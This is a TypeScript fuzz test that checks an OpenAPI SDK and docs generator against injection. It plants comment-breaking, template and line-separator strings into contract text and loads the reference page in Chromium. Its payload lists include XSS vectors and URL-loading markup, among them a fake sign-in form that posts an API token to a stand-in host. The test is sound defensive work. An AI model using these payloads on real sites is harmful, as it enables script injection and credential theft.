/**
 * Contract text is data, never code, proved by fuzzing the kitchen-sink contract rather than by
 * listing where text goes.
 *
 * Free text: every string under a summary, description or title, and every string and key of
 * an example, a default, an enum or a const, is planted, all at once, as
 * `Zq<n>q<hostile>Zq<n>e` (n numbers the place). The generators run in this process on the
 * result (the three of `npm run generate`, through `loadContract` as they do), and the markers
 * found in their output are the positions: a new one is covered without editing this test.
 * For each hostile string:
 *
 * - every generated file parses, and its syntax tree, with string and comment text masked,
 *   is the one generated with a harmless string in the same places;
 * - each marker reads back with the hostile string between its two halves: from a string
 *   literal's value, from the module's values at run time (importing it prints nothing and
 *   adds no global), and from doc comments as TypeScript's JSDoc parser reads them (which the
 *   language service shows; `*\/` and `\@` are Markdown escapes of `*` and `@`); no `//`
 *   comment holds one. Line breaks read back as white space (a summary is one line; a doc
 *   comment line break is a new ` * ` line).
 *
 * A key `__proto__` in an example, and a property `__proto__`, reach every file and run time as
 * a key of another name does. Names (operationId, header, schema, path parameter, x-sdk-method)
 * are refused by their pointer or mapped to an identifier, each hostile string on its own; then
 * every hostile name a place accepts (schemas, properties, query and header parameters, tags,
 * operationIds) is planted at once, and the code generated is the one harmless names there
 * give. The reference page built with every hostile string, and markup that would run a script
 * or load a URL, runs no script and contacts no third party in Chromium.
 */
import { existsSync } from "node:fs";
import { copyFile, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { pathToFileURL } from "node:url";
import { chromium } from "playwright-core";
import ts from "typescript";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { buildDocs, urlLoader } from "../../scripts/docs.js";
import { untrustedMarkdown } from "../../scripts/encode.js";
import { contractModel } from "../../scripts/contract-model.js";
import { mcpTools, render } from "../../scripts/generate-mcp.js";
import { testingOutputs } from "../../scripts/generate-testing.js";
import { generatedOutputs } from "../../scripts/generate.js";
import { codeModeOutputs } from "../../scripts/generate-code-mode.js";
import { KITCHEN_SINK_PATH } from "../../scripts/facts.js";
import { loadContract } from "../../scripts/load-contract.js";
import { ROOT } from "../package/tarball.js";

type Json = Record<string, any>;

/** The hostile strings, each planted in every free-text place of one generation. */
const HOSTILE: ReadonlyArray<[label: string, text: string]> = [
  ["*/", "*/"],
  ["/*", "/*"],
  ["//", "//"],
  ["\\n", "\n"],
  ["\\r", "\r"],
  ["U+2028", "\u2028"],
  ["U+2029", "\u2029"],
  ["U+0085", "\u0085"],
  ["a backtick", "`"],
  ["${", "${globalThis.pwned = 1}"],
  ['"', '"'],
  ["'", "'"],
  ["\\", "\\"],
  ["</script>", "</script><script>globalThis.pwned = 2</script>"],
  ["-->", "-->"],
  ["NUL", "\u0000"],
  ["a 10 KB string", "*/\n@returns ".repeat(1024)],
  ["__proto__", "__proto__"],
  ["a doc tag after a line break", "\n@deprecated use another"],
  ["a statement after a line break", "\n*/ globalThis.pwned = 3; /*"],
];
const HARMLESS = "harmless";

const isObject = (value: unknown): value is Json =>
  typeof value === "object" && value !== null && !Array.isArray(value);

/** What the text between a marker's halves must read back as: white space (line breaks included) as one space. */
const spaced = (text: string) => text.replace(/[\s\u0085]+/g, " ");

/**
 * The contract with `text(n)` in every free-text place (n counting them); also, with `extraKey`,
 * that key added to every example object (its value a marker) and that property to every
 * schema's properties (its description a marker).
 */
function planted(doc: Json, text: (n: number) => string, extraKey?: string): Json {
  let n = 0;
  const data = (node: unknown): unknown => {
    if (typeof node === "string") return text(n++);
    if (Array.isArray(node)) return node.map(data);
    if (!isObject(node)) return node;
    const out: Json = Object.fromEntries(Object.entries(node).map(([, value]) => [text(n++), data(value)]));
    if (extraKey !== undefined)
      Object.defineProperty(out, extraKey, { value: text(n++), enumerable: true, writable: true, configurable: true });
    return out;
  };
  const walk = (node: unknown): unknown => {
    if (Array.isArray(node)) return node.map(walk);
    if (!isObject(node)) return node;
    const out: Json = {};
    // An Example Object: its `value` is data.
    const example = Object.keys(node).every((key) =>
      ["summary", "description", "value", "externalValue"].includes(key),
    );
    for (const [key, value] of Object.entries(node)) {
      if (extraKey !== undefined && key === "properties" && isObject(value)) {
        const properties = walk(value) as Json;
        Object.defineProperty(properties, extraKey, {
          value: { type: "string", description: text(n++) },
          enumerable: true,
          writable: true,
          configurable: true,
        });
        out[key] = properties;
      } else if (["summary", "description", "title"].includes(key) && typeof value === "string") out[key] = text(n++);
      else if (
        ["example", "default", "enum", "const"].includes(key) ||
        (key === "examples" && Array.isArray(value)) ||
        (example && key === "value")
      )
        out[key] = data(value);
      else out[key] = walk(value);
    }
    return out;
  };
  return walk(doc) as Json;
}

/** The files `npm run generate` writes for `doc`, by path: the generators run here, each on the contract as `loadContract` reads it. */
async function generateAll(doc: Json): Promise<Record<string, string>> {
  const loaded = () => loadContract(JSON.stringify(doc), "fuzz.json");
  const files: Record<string, string> = {};
  for (const [name, text] of Object.entries(await generatedOutputs(loaded()))) files[`generated/${name}`] = text;
  for (const [name, text] of Object.entries(await testingOutputs(loaded()))) files[`generated/${name}`] = text;
  files["generated/mcp-tools.ts"] = render(mcpTools(loaded()));
  for (const [name, text] of Object.entries(await codeModeOutputs(loaded()))) files[`generated/${name}`] = text;
  return files;
}

const MARKER = /Zq(\d+)q/g;
/** The generated modules whose strings are TypeScript source, read back through the compiler. */
const CODE_SOURCE = new Set(["generated/code-mode-declarations.ts", "generated/code-mode-docs.ts"]);
/** A marker, also lower-cased (header names are). */
const HAS_MARKER = /zq\d+q/i;
const sourceOf = (name: string, text: string) =>
  ts.createSourceFile(name, text, ts.ScriptTarget.Latest, true, ts.ScriptKind.TS);

/**
 * A file's syntax tree as text: node kinds and numbers; every string (and an identifier made of
 * contract text) is `S`, every other identifier `I` (a minifier names a module's locals after
 * how often letters occur in it, so their names change with any string).
 */
function maskedTree(source: ts.SourceFile): string {
  const out: string[] = [];
  const visit = (node: ts.Node) => {
    if (ts.isStringLiteralLike(node) || (ts.isIdentifier(node) && HAS_MARKER.test(node.text))) out.push("S");
    else if (ts.isIdentifier(node) || ts.isPrivateIdentifier(node)) out.push("I");
    else if (ts.isNumericLiteral(node)) out.push(node.text);
    // `import { a }` and `import { a as b }` are one import, whichever local name the minifier chose.
    else if (ts.isImportSpecifier(node) || ts.isExportSpecifier(node))
      return void out.push(`${ts.SyntaxKind[node.kind]}(I)`);
    // `data.name` and `data["na me"]` are one access: a name is written either way, as it allows.
    else if (ts.isElementAccessExpression(node) && ts.isStringLiteralLike(node.argumentExpression))
      out.push("PropertyAccessExpression");
    else out.push(ts.SyntaxKind[node.kind]!);
    out.push("(");
    ts.forEachChild(node, visit);
    out.push(")");
  };
  visit(source);
  return out.join("");
}

interface Reading {
  /** Texts of string literals (values, keys, literal types). */
  strings: string[];
  /** Those outside any function: what the module's values hold at run time. */
  data: string[];
  /** Doc comment texts as TypeScript's JSDoc parser reads them, comments and tags. */
  docs: string[];
  /** `//` comments and block comments that are no doc comments. */
  otherComments: string[];
}

/** What a reader (the compiler, an editor) sees of a file's strings and comments. */
function readingOf(source: ts.SourceFile): Reading {
  const reading: Reading = { strings: [], data: [], docs: [], otherComments: [] };
  const text = source.getFullText();
  const seenComments = new Set<number>();
  const comments = (pos: number) => {
    for (const range of [
      ...(ts.getLeadingCommentRanges(text, pos) ?? []),
      ...(ts.getTrailingCommentRanges(text, pos) ?? []),
    ]) {
      if (seenComments.has(range.pos)) continue;
      seenComments.add(range.pos);
      const comment = text.slice(range.pos, range.end);
      if (!comment.startsWith("/**")) reading.otherComments.push(comment);
    }
  };
  const visit = (node: ts.Node, inFunction = false) => {
    comments(node.pos);
    comments(node.end);
    if (ts.isStringLiteralLike(node)) reading.strings.push(node.text);
    if (ts.isStringLiteralLike(node) && !inFunction) reading.data.push(node.text);
    for (const doc of ts.getJSDocCommentsAndTags(node)) {
      if (!ts.isJSDoc(doc)) continue;
      reading.docs.push(ts.getTextOfJSDocComment(doc.comment) ?? "");
      for (const tag of doc.tags ?? [])
        reading.docs.push(`@${tag.tagName.text} ${ts.getTextOfJSDocComment(tag.comment) ?? ""}`);
    }
    ts.forEachChild(node, (child) => visit(child, inFunction || ts.isFunctionLike(node)));
  };
  visit(source);
  return reading;
}

/** Markdown's escapes of the two characters a doc comment escapes. */
const unescapeDoc = (text: string) => text.replace(/\*\\\//g, "*/").replace(/\\@/g, "@");

/** Whether `got` reads as `expected`: as it is, or as the content of a JSON string (an example or a value shown as code). */
function readsAs(got: string, expected: string): boolean {
  if (spaced(got) === expected) return true;
  try {
    return spaced(JSON.parse(`"${got}"`) as string) === expected;
  } catch {
    return false;
  }
}

/** Where two masked trees first differ, for the message. */
function firstDifference(a: string, b: string): string {
  let i = 0;
  while (i < a.length && a[i] === b[i]) i++;
  return `…${a.slice(Math.max(0, i - 120), i + 80)}… where the harmless one has …${b.slice(Math.max(0, i - 120), i + 80)}…`;
}

/** For each marker in `texts`, what lies between its halves; a marker without its second half in the same text is `undefined`. */
function between(texts: readonly string[]): Map<string, Array<string | undefined>> {
  const found = new Map<string, Array<string | undefined>>();
  for (const text of texts) {
    for (const match of text.matchAll(MARKER)) {
      const n = match[1]!;
      const end = text.indexOf(`Zq${n}e`, match.index);
      const list = found.get(n) ?? [];
      list.push(end === -1 ? undefined : text.slice(match.index + match[0].length, end));
      found.set(n, list);
    }
  }
  return found;
}

/** Every string (keys too) of a run-time value, and each `[key, value]` pair of its objects. */
function valuesOf(
  value: unknown,
  out: { strings: string[]; pairs: Array<[string, unknown]> } = { strings: [], pairs: [] },
  seen = new Set<unknown>(),
) {
  if (typeof value === "string") out.strings.push(value);
  if (typeof value !== "object" || value === null || seen.has(value)) return out;
  seen.add(value);
  for (const key of Object.keys(value)) {
    out.strings.push(key);
    out.pairs.push([key, (value as Json)[key]]);
    valuesOf((value as Json)[key], out, seen);
  }
  return out;
}

let scratch: string;
let base: Json;
let baseline: Record<string, string>;

beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), "store-admin-fuzz-"));
  base = parse(await readFile(KITCHEN_SINK_PATH, "utf8")) as Json;
  baseline = await generateAll(planted(base, (n) => `Zq${n}q${HARMLESS}Zq${n}e`));
});

afterAll(async () => {
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

/** Writes `files` under a folder of their own and imports every module that has values at run time; what it printed and added. */
async function importAll(files: Record<string, string>, folder: string) {
  const dir = join(scratch, folder);
  for (const [name, text] of Object.entries(files)) {
    await mkdir(dirname(join(dir, name)), { recursive: true });
    await writeFile(join(dir, name), text);
  }
  // What generated/schemas/index.ts imports from the sources.
  await mkdir(join(dir, "src", "schemas"), { recursive: true });
  await copyFile(join(ROOT, "src", "schemas", "standard-schema.ts"), join(dir, "src", "schemas", "standard-schema.ts"));
  const globals = new Set(Object.getOwnPropertyNames(globalThis));
  const printed: string[] = [];
  const write = process.stdout.write;
  process.stdout.write = ((chunk: unknown) => (printed.push(String(chunk)), true)) as typeof write;
  const modules: Record<string, Json> = {};
  try {
    for (const name of Object.keys(files)) {
      if (/\/(schema|names|methods)\.ts$/.test(name)) continue; // types only
      modules[name] = (await import(pathToFileURL(join(dir, name)).href)) as Json;
    }
  } finally {
    process.stdout.write = write;
  }
  const added = Object.getOwnPropertyNames(globalThis).filter((name) => !globals.has(name));
  return { modules, printed, added };
}

describe("free text in every place it reaches", () => {
  it("the markers find the places: each generated file kind holds some", () => {
    const reached = Object.entries(baseline)
      .filter(([, text]) => HAS_MARKER.test(text))
      .map(([name]) => name.replace(/ops\/.*$/, "ops/*"));
    // Not a list to keep up: only that the search finds places in code, types, docs and data.
    for (const kind of [
      "generated/schema.ts",
      "generated/methods.ts",
      "generated/mcp-tools.ts",
      "generated/testing/ops/*",
    ]) {
      expect(reached, kind).toContain(kind);
    }
  });

  for (const [label, hostile] of HOSTILE) {
    it(`${label}: same code, read back unchanged, nothing run`, async () => {
      const files = await generateAll(planted(base, (n) => `Zq${n}q${hostile}Zq${n}e`));
      expect(Object.keys(files).sort()).toEqual(Object.keys(baseline).sort());
      const expected = spaced(hostile);
      const problems: string[] = [];
      for (const [name, text] of Object.entries(files)) {
        const source = sourceOf(name, text);
        const syntax = (source as unknown as { parseDiagnostics: ts.Diagnostic[] }).parseDiagnostics;
        if (syntax.length > 0)
          problems.push(`${name} does not parse: ${ts.flattenDiagnosticMessageText(syntax[0]!.messageText, " ")}`);
        const [tree, harmless] = [maskedTree(source), maskedTree(sourceOf(name, baseline[name]!))];
        if (tree !== harmless)
          problems.push(`${name}: its syntax differs from the harmless one's: ${firstDifference(tree, harmless)}`);
        const reading = readingOf(source);
        for (const comment of reading.otherComments)
          if (HAS_MARKER.test(comment))
            problems.push(`${name}: contract text in a comment that is no doc comment: ${comment.slice(0, 80)}`);
        // Code mode's strings are TypeScript source: read through the compiler, as the type check reads them.
        const strings = CODE_SOURCE.has(name)
          ? reading.strings.flatMap((value) => readingOf(sourceOf("value.ts", value)).strings)
          : reading.strings;
        for (const [where, texts, decode] of [
          ["string", strings, (t: string) => t],
          ["doc comment", reading.docs, unescapeDoc],
        ] as const) {
          for (const [n, readBack] of between(texts)) {
            for (const got of readBack) {
              if (got === undefined || !readsAs(decode(got), expected))
                problems.push(
                  `${name}: marker ${n} reads back from a ${where} as ${JSON.stringify(got?.slice(0, 60))}`,
                );
            }
          }
        }
      }
      const { modules, printed, added } = await importAll(files, `run-${HOSTILE.findIndex(([l]) => l === label)}`);
      expect(printed, "importing the generated modules printed").toEqual([]);
      expect(added, "importing the generated modules added globals").toEqual([]);
      for (const [name, module] of Object.entries(modules)) {
        // Code mode's values are TypeScript source (its declarations, signatures, examples): contract text is in that source's strings.
        const strings = CODE_SOURCE.has(name)
          ? valuesOf(module).strings.flatMap((value) => readingOf(sourceOf("value.ts", value)).strings)
          : valuesOf(module).strings;
        const atRunTime = between(strings);
        for (const [n, got] of atRunTime)
          if (got.some((text) => text === undefined || spaced(text) !== expected))
            problems.push(`${name}: marker ${n} reads back at run time as ${JSON.stringify(got[0]?.slice(0, 60))}`);
        // A validator module (the kit's, an operation's responses', a schema's) also holds the schemas its validators
        // report from, which it does not export: its literals are checked above.
        if (name.includes("/ops/") || name.startsWith("generated/validators/")) continue;
        for (const [n] of between(readingOf(sourceOf(name, files[name]!)).data)) {
          const got = atRunTime.get(n);
          if (got === undefined) problems.push(`${name}: marker ${n} is not at run time as written`);
        }
      }
      expect(problems).toEqual([]);
    }, 60_000);
  }

  it("a key `__proto__` of an example, and a property `__proto__`, reach every file and run time as a key named otherwise does", async () => {
    const markersOf = (texts: string[]) => new Set(texts.flatMap((text) => text.match(/Zq\d+q/g) ?? []));
    const runs = await Promise.all(
      ["__proto__", "protoKey"].map(async (key) => {
        const files = await generateAll(planted(base, (n) => `Zq${n}q${HARMLESS}Zq${n}e`, key));
        const { modules } = await importAll(files, `key-${key}`);
        return {
          files: Object.fromEntries(Object.entries(files).map(([name, text]) => [name, [...markersOf([text])].sort()])),
          runTime: Object.fromEntries(
            Object.entries(modules).map(([name, module]) => [name, [...markersOf(valuesOf(module).strings)].sort()]),
          ),
        };
      }),
    );
    // The same places, numbered alike: a key lost (set as a prototype instead) takes its markers with it.
    expect(runs[0]!.files).toEqual(runs[1]!.files);
    expect(runs[0]!.runTime).toEqual(runs[1]!.runTime);
  }, 60_000);
});

describe("names", () => {
  /** A name place of the kitchen sink: how to put a name there, and the pointer a refusal names. */
  const places: Array<
    [string, (doc: Json, name: string) => void, string, (doc: Json, name: string) => string | undefined]
  > = [
    [
      "an operationId",
      (d, name) => (d.paths["/widgets/{id}/"].get.operationId = name),
      "#/paths/~1widgets~1{id}~1/get/operationId",
      (d) => contractModel(d).operations.find((op) => op.key === "GET /widgets/{id}/")!.ident,
    ],
    [
      "a header name",
      (d, name) => d.paths["/widgets/"].get.parameters.push({ name, in: "header", schema: { type: "string" } }),
      "#/paths/~1widgets~1/get/parameters/3/name",
      () => undefined,
    ],
    [
      "a schema name",
      (d, name) => (d.components.schemas[name] = { type: "string" }),
      "#/components/schemas/",
      (d, name) => contractModel(d).typeNames.get(name),
    ],
    [
      "a path parameter",
      (d, name) => {
        const item = d.paths["/widgets/{id}/"];
        delete d.paths["/widgets/{id}/"];
        d.paths[`/widgets/{${name}}/`] = item;
        item.parameters[0].name = name;
      },
      "#/paths/",
      (d) =>
        contractModel(d).operations.find((op) => op.path.startsWith("/widgets/{") && op.method === "get")!
          .pathArguments[0],
    ],
    [
      "an x-sdk-method",
      (d, name) => (d.paths["/status/"].get["x-sdk-method"] = `status.${name}`),
      "#/paths/~1status~1/get/x-sdk-method",
      (d) => contractModel(d).operations.find((op) => op.key === "GET /status/")!.methodName,
    ],
  ];
  const identifier = /^[A-Za-z_$][\w$]*(\.[A-Za-z_$][\w$]*)*$/;

  for (const [what, put, at, mapped] of places) {
    it(`${what}: each hostile name is refused by its pointer, or mapped to an identifier`, () => {
      for (const [label, hostile] of [...HOSTILE, ["get-status", "get-status"] as const]) {
        const doc = structuredClone(base);
        const name = `name${hostile}`;
        put(doc, name);
        let loaded: Json;
        try {
          loaded = loadContract(JSON.stringify(doc), "fuzz.json");
        } catch (error) {
          expect((error as Error).message, `${what} ${label}`).toContain(at);
          continue;
        }
        const result = mapped(loaded, name);
        if (result !== undefined) expect(result, `${what} ${label}`).toMatch(identifier);
      }
    });
  }

  /** Name places that each take a new name: a schema, a property, a query and a header parameter, a tag; the operationIds of the kitchen sink, one each. */
  const adders: Array<(doc: Json, name: string, i: number) => void> = [
    (d, name) => (d.components.schemas[name] = { type: "object", properties: { id: { type: "integer" } } }),
    (d, name) => (d.components.schemas.Widget.properties[name] = { type: "string" }),
    (d, name) => d.paths["/widgets/"].get.parameters.push({ name, in: "query", schema: { type: "string" } }),
    (d, name) => d.paths["/widgets/"].get.parameters.push({ name, in: "header", schema: { type: "string" } }),
    (d, name) => (d.tags.push({ name, description: "A tag." }), d.paths["/widgets/"].get.tags.push(name)),
    (d, name, i) => {
      const operations = Object.values(d.paths as Json).flatMap((item: Json) =>
        ["get", "post", "put", "patch", "delete"].map((m) => item[m]).filter(Boolean),
      );
      if (i < operations.length) operations[i].operationId = name;
    },
  ];

  it("every hostile name a place accepts, all at once, generates what a harmless name there does, read back and inert", async () => {
    // Where each hostile string is accepted (a refused one is checked above), and the same places with a harmless name.
    const hostileDoc = structuredClone(base);
    const harmlessDoc = structuredClone(base);
    let n = 0;
    for (const add of adders) {
      for (const [i, [, hostile]] of HOSTILE.entries()) {
        const trial = structuredClone(hostileDoc);
        const marker = n++;
        add(trial, `Zq${marker}q${hostile}Zq${marker}e`, i);
        try {
          loadContract(JSON.stringify(trial), "fuzz.json");
        } catch {
          continue;
        }
        add(hostileDoc, `Zq${marker}q${hostile}Zq${marker}e`, i);
        add(harmlessDoc, `Zq${marker}q${HARMLESS}Zq${marker}e`, i);
      }
    }
    const [files, harmless] = [await generateAll(hostileDoc), await generateAll(harmlessDoc)];
    const problems: string[] = [];
    for (const [name, text] of Object.entries(files)) {
      const source = sourceOf(name, text);
      const syntax = (source as unknown as { parseDiagnostics: ts.Diagnostic[] }).parseDiagnostics;
      if (syntax.length > 0)
        problems.push(`${name} does not parse: ${ts.flattenDiagnosticMessageText(syntax[0]!.messageText, " ")}`);
      if (harmless[name] === undefined) continue; // a file named after an operationId
      const [tree, other] = [maskedTree(source), maskedTree(sourceOf(name, harmless[name]!))];
      if (tree !== other)
        problems.push(`${name}: its syntax differs from the harmless names' one: ${firstDifference(tree, other)}`);
      const reading = readingOf(source);
      for (const comment of reading.otherComments)
        if (HAS_MARKER.test(comment))
          problems.push(`${name}: a name in a comment that is no doc comment: ${comment.slice(0, 80)}`);
    }
    const { printed, added } = await importAll(files, "names");
    expect(printed).toEqual([]);
    expect(added).toEqual([]);
    expect(problems).toEqual([]);
    expect(n).toBeGreaterThan(0);
  }, 60_000);

  it("an unusual name the documented rule maps still maps (`get-status`, `line-item`, `Product `)", () => {
    const model = contractModel(loadContract(JSON.stringify(base), "kitchen-sink.json"));
    expect(model.operations.find((op) => op.operationId === "get-status")?.ident).toBe("getStatus");
    expect(model.typeNames.get("line-item")).toBe("LineItem");
    expect(model.typeNames.get("Product ")).toBe("Product");
  });
});

/** Markup and links that would run a script. */
const SCRIPTS = [
  "<script>globalThis.pwned = 'script'</script>",
  "<img src=x onerror=\"globalThis.pwned = 'onerror'\">",
  "</script><script>globalThis.pwned = 'closed'</script>",
  "[link](javascript:globalThis.pwned='link')",
  "<svg onload=\"globalThis.pwned = 'svg'\"></svg>",
];

/**
 * Markup that loads or submits a URL without a script: each inside backslash-escaped backticks
 * (a literal backtick in Markdown, so no code span), or in a block of its own.
 */
const URL_LOADERS = [
  "\\`<video poster=https://third-party.example/poster.png></video>\\`",
  "\\`<input type=image src=https://third-party.example/input.png>\\`",
  "\\`<svg><image href=https://third-party.example/svg.png></image></svg>\\`",
  "\\`<style>@import url(https://third-party.example/import.css);</style>\\`",
  "\\`<audio src=https://third-party.example/audio.mp3></audio>\\`",
  "\\`<form action=https://third-party.example/steal><input name=token placeholder='Your API token'><button>Sign in</button></form>\\`",
  "\\`<img srcset=https://third-party.example/srcset.png>\\`",
  '\\`<div style="background:url(https://third-party.example/bg.png)">x</div>\\`',
  "\\`<iframe src=https://third-party.example/frame></iframe>\\`",
  "\\`<meta http-equiv=refresh content='0;url=https://third-party.example/meta'>\\`",
];

describe("the reference page and markup that loads a URL", () => {
  it("escaped backticks do not make code: the contract's Markdown holds no live element (as Redoc's parser reads it)", () => {
    for (const text of URL_LOADERS)
      expect(untrustedMarkdown(text), text).not.toMatch(/<(?:video|input|svg|style|audio|form|img|div|iframe|meta)\b/);
    // Real code stays as written: a span, a fenced and an indented block.
    expect(untrustedMarkdown("`<b>` and\n\n```\n<i>\n```\n\n    <u>\n")).toBe(
      "`<b>` and\n\n```\n<i>\n```\n\n    <u>\n",
    );
  });

  it("the build refuses a page that would load or submit a URL by itself", () => {
    for (const html of [
      '<video poster="https://x.example/p.png">',
      "<form action=https://x.example>",
      "<style>@import url(x.css)</style>",
      '<div style="background:url(https://x.example/b.png)">',
      '<svg><image href="https://x.example/i.png"/></svg>',
      '<meta http-equiv="refresh" content="0;url=https://x.example">',
    ]) {
      expect(urlLoader(`<html><body>${html}</body></html>`), html).toBeDefined();
    }
    expect(
      urlLoader(
        '<html><body><a href="https://example.com">a link</a><svg><use href="#icon"/></svg><script>const t = "<img src=https://x>";</script></body></html>',
      ),
    ).toBeUndefined();
  });
});

/** What the reference page must show as text: what would run a script, then what would load a URL. */
const PAGE_HOSTILE = [...SCRIPTS, ...URL_LOADERS];

describe("the reference page", () => {
  it("built with every hostile string, runs no script and contacts no third party in Chromium", async () => {
    expect(existsSync("/usr/bin/chromium"), "needs Debian's chromium (apt-get install -y chromium)").toBe(true);
    const doc = planted(
      base,
      (n) => `Zq${n}q ${PAGE_HOSTILE[n % PAGE_HOSTILE.length]} ${HOSTILE[n % HOSTILE.length]![1]} Zq${n}e`,
    );
    const spec = join(scratch, "hostile.json");
    await writeFile(spec, JSON.stringify(doc));
    const page = join(scratch, "reference.html");
    await buildDocs({ specPath: spec, outputPath: page });
    const browser = await chromium.launch({
      executablePath: "/usr/bin/chromium",
      args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
      timeout: 60_000,
    });
    try {
      const tab = await browser.newPage();
      const dialogs: string[] = [];
      tab.on("dialog", (dialog) => (dialogs.push(dialog.message()), void dialog.dismiss()));
      const contacted: string[] = [];
      await tab.route("**/*", (route) => {
        const url = route.request().url();
        if (url.startsWith("file:") || url.startsWith("data:") || url.startsWith("blob:")) return route.continue();
        contacted.push(url);
        return route.abort();
      });
      await tab.goto(pathToFileURL(page).href);
      await tab.waitForSelector("[data-section-id]", { timeout: 60_000 });
      expect(await tab.evaluate(() => document.body.innerText.includes("Zq")), "the page shows the planted text").toBe(
        true,
      );
      // Every element the strings name, had it been made live, would be in the document.
      const live = await tab.evaluate(
        () =>
          document.querySelectorAll(
            "video, audio, form, iframe, input[type=image], svg image, img[srcset], meta[http-equiv]",
          ).length,
      );
      expect(live).toBe(0);
      // Then click the links the descriptions made.
      for (const link of await tab.locator('a[href^="javascript:"]').all())
        await link.click({ timeout: 1000 }).catch(() => {});
      expect(await tab.evaluate(() => (globalThis as { pwned?: unknown }).pwned)).toBeUndefined();
      expect(dialogs).toEqual([]);
      await tab.waitForTimeout(1000);
      expect(contacted).toEqual([]);
    } finally {
      await browser.close();
    }
  }, 180_000);
});
